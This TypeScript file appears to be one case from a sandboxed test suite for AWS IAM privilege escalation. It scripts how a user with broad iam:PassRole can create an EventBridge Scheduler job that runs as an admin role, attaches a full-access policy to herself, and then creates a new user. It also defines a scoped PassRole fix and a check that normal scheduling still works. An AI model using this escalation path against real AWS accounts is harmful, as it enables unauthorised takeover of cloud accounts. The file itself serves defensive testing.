import { allow, everything, role, roleArn, trusts, user, userPolicy, when } from '../documents.ts';
import type { PathRow } from '../row.ts';
import { accountId } from '../sandbox.ts';

const toScheduler = trusts({ Service: 'scheduler.amazonaws.com' });
const make = allow(['scheduler:CreateSchedule', 'scheduler:UpdateSchedule', 'scheduler:GetSchedule']);
const passed = when('StringEquals', 'iam:PassedToService', 'scheduler.amazonaws.com');
const schedule = (Name: string, Arn: string, role: string, Input: object) => ({
  Name,
  ScheduleExpression: 'rate(1 minute)',
  FlexibleTimeWindow: { Mode: 'OFF' },
  Target: { Arn, RoleArn: roleArn(role), Input: JSON.stringify(Input) },
});

export const row: PathRow = {
  row: '58',
  title: 'A schedule that calls IAM as a strong role',
  given: [
    ...role('Admin', toScheduler, allow('*')),
    ...role('Timer', toScheduler, allow('sqs:SendMessage')),
    { call: 'sqs:CreateQueue', with: { QueueName: 'jobs' } },
    ...user('Eve', make, allow('iam:PassRole')),
  ],
  attacker: 'user/Eve',
  attack: [
    {
      call: 'scheduler:CreateSchedule',
      with: schedule('Climb', 'arn:aws:scheduler:::aws-sdk:iam:putUserPolicy', 'Admin', {
        UserName: 'Eve',
        PolicyName: 'more',
        PolicyDocument: everything,
      }),
    },
    { wait: { seconds: 60 } },
  ],
  gain: { call: 'iam:CreateUser', with: { UserName: 'Mole' } },
  fixes: [
    {
      what: 'PassRole on named role ARNs and PassedToService',
      steps: [userPolicy('Eve', make, allow('iam:PassRole', roleArn('Timer'), passed))],
      stops: 'scheduler:CreateSchedule',
    },
  ],
  work: [
    {
      call: 'scheduler:CreateSchedule',
      with: schedule('Jobs', `arn:aws:sqs:us-east-1:${accountId}:jobs`, 'Timer', { job: 1 }),
      as: 'user/Eve',
    },
    { wait: { seconds: 60 } },
    {
      call: 'sqs:ReceiveMessage',
      with: { QueueUrl: `https://sqs.us-east-1.amazonaws.com/${accountId}/jobs` },
      shows: ({ Messages = [] }) => {
        if (Messages.length === 0) throw new Error('The schedule sent nothing');
      },
    },
    { call: 'scheduler:DeleteSchedule', with: { Name: 'Jobs' } },
  ],
};
